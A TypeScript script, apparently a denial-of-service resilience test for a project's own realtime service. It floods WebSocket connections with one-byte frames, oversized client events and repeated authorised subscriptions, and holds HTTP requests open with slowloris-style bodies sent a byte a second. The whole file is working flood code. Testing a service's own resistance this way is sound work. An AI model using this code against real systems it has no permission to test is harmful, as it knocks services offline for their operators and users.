import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import type { authorizeChannel } from '@studyline/contract/realtime';
import type { Result } from '@studyline/contract/endpoint';
import { WebSocket } from 'ws';

/** What the attackers are told. */
export interface Targets {
  product: string;
  key: string;
  channel: string;
  /** Bearer tokens of members, who attack too. */
  tokens: string[];
}

const SOCKETS_OF_A_KIND = 100;
const SLOW_BODIES = 100;
const FRAMES = 2000;

/**
 * The attackers, in their own process: sockets that send frames of one byte, client events and subscriptions as fast as they can,
 * and bodies that come on by a byte a second. Whoever is shut out comes back after a second.
 */
const { product, key, channel, tokens } = JSON.parse(process.env['ATTACK_TARGETS'] ?? '') as Targets;

type Greeting = { data: string };

async function attack(
  framesOf: (greeting: Greeting, index: number) => Promise<string[]> | string[],
  index: number,
) {
  for (;;) {
    const ws = new WebSocket(`${product.replace('http', 'ws')}/app/${key}?protocol=7`, {
      perMessageDeflate: false,
    });
    ws.on('error', () => undefined);
    const closed = new Promise((resolve) => ws.on('close', resolve));
    ws.once('message', (data: Buffer) => {
      const send = async () => {
        for (const frame of await framesOf(JSON.parse(data.toString()) as Greeting, index)) ws.send(frame);
      };
      send().catch(() => ws.terminate());
    });
    await closed;
    await pause(1000);
  }
}

const repeat = (frame: string) => Array<string>(FRAMES).fill(frame);
const clientEvent = JSON.stringify({ event: 'client-typing', channel, data: 'x'.repeat(1000) });

async function subscriptions({ data }: Greeting, index: number): Promise<string[]> {
  const { socket_id } = JSON.parse(data) as { socket_id: string };
  const response = await fetch(`${product}/openapi/v1/realtime/auth`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens[index % tokens.length]}` },
    body: JSON.stringify({ socket_id, channel_name: channel }),
  });
  const { authResponse } = (await response.json()) as Result<typeof authorizeChannel>;
  return repeat(JSON.stringify({ event: 'pusher:subscribe', data: { channel, ...authResponse } }));
}

async function sendSlowly(token: string) {
  for (;;) {
    const sent = request(`${product}/openapi/v1/realtime/auth`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'content-length': 100_000,
        authorization: `Bearer ${token}`,
      },
    });
    const closed = new Promise((resolve) => sent.on('close', resolve));
    sent.on('error', () => undefined);
    const timer = setInterval(() => sent.write(' '), 1000);
    await closed;
    clearInterval(timer);
    await pause(1000);
  }
}

for (let index = 0; index < SOCKETS_OF_A_KIND; index += 1) {
  void attack(() => repeat('x'), index);
  void attack(() => repeat(clientEvent), index);
  void attack(subscriptions, index);
}
for (let index = 0; index < SLOW_BODIES; index += 1) void sendSlowly(tokens[index % tokens.length] ?? '');
console.log(`attacking ${product}`);
process.on('SIGTERM', () => process.exit(0));
